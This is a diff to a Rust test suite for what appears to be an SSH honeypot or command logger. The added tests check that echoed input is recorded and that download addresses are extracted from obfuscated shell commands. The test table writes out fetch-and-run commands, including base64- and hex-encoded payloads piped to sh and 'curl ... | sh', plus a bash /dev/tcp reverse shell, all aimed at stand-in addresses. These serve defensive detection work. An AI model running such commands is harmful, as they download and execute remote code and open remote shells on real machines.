@@ -40,6 +40,17 @@ fn whatever_reads_its_input_hears_it_to_the_end_and_goes_on() {
     }
 }
 
+/// What is shown as it comes is told, and is there afterwards.
+#[test]
+fn what_is_given_back_is_heard_and_kept_too() {
+    let (mut client, first, status) = exec("tee /tmp/x; wc -c < /tmp/x");
+    assert_eq!((first.as_str(), status), ("", None));
+    assert_eq!(printed(&client.ask(&data(b"#!/bin/sh\n"))).0, "#!/bin/sh\n");
+    assert_eq!(printed(&client.ask(&data(b"id\n"))).0, "id\n");
+    assert_eq!(client.heard.reports.last().unwrap().0.fields["input"], "id\\u{a}");
+    assert_eq!(printed(&client.ask(&end())), ("13\n".into(), Some(0)));
+}
+
 #[test]
 fn a_large_file_is_not_kept_but_its_length_is() {
     let (mut client, ..) = exec("cat > /tmp/big; wc -c < /tmp/big; ls -l /tmp/big | cut -d' ' -f5; cat /tmp/big | wc -c");
@@ -87,6 +98,32 @@ fn addresses_are_told_though_they_are_put_together() {
     let (client, ..) = exec("h=198.51.100.5; p=http; for f in a b; do wget $p://$h/$f.sh; done");
     let found = &client.heard.reports.last().unwrap().0.fields;
     assert_eq!(found["download"], "http://198.51.100.5/a.sh; http://198.51.100.5/b.sh");
+    let table = [
+        ("wget 198.51.100.5/a -O /tmp/a; tftp -g -r b 198.51.100.5", "http://198.51.100.5/a; tftp://198.51.100.5/b"),
+        ("echo d2dldCBodHRwOi8vMTk4LjUxLjEwMC41L2M= | base64 -d | sh", "http://198.51.100.5/c"),
+        ("echo 7767657420687474703a2f2f3139382e35312e3130302e352f64 | xxd -r -p | sh", "http://198.51.100.5/d"),
+        ("bash <(echo 'curl http://'198.51.100.5/e)", "http://198.51.100.5/e"),
+        (
+            "a=(198.51.100.5 198.51.100.6); for h in \"${a[@]}\"; do curl -O http://$h/f; done",
+            "http://$h/f; http://198.51.100.5/f; http://198.51.100.6/f",
+        ),
+        (
+            "printf '5:g\\n6:h\\n' | while IFS=: read n p; do wget http://198.51.100.$n/$p; done",
+            "http://198.51.100.$n/$p; http://198.51.100.5/g; http://198.51.100.6/h",
+        ),
+        ("bash -i >& /dev/tcp/198.51.100.5/4444 0>&1", "tcp://198.51.100.5:4444"),
+        ("g() { wget http://$1/${2^^}; }; g 198.51.100.5 i", "http://$1/${2^^}; http://198.51.100.5/I"),
+        (
+            "for ((i=5;i<7;i++)); do wget http://198.51.100.$i/$'\\x6a'; done",
+            "http://198.51.100.$i/$; http://198.51.100.5/j; http://198.51.100.6/j",
+        ),
+        ("x=$(cat <<E\nit's http:\nE\n); wget ${x#* }//198.51.100.5/k", "http://198.51.100.5/k"),
+    ];
+    for (command, told) in table {
+        let (client, ..) = exec(command);
+        let found = &client.heard.reports.last().unwrap().0.fields;
+        assert_eq!(found.get("download").map(String::as_str), Some(told), "{command}");
+    }
     let mut client = inside();
     client.ask(&channel_request("exec", |out| put_string(out, b"curl http://198.51.100.6/x | sh")));
     assert_eq!(client.heard.reports.last().unwrap().0.fields["download"], "http://198.51.100.6/x");
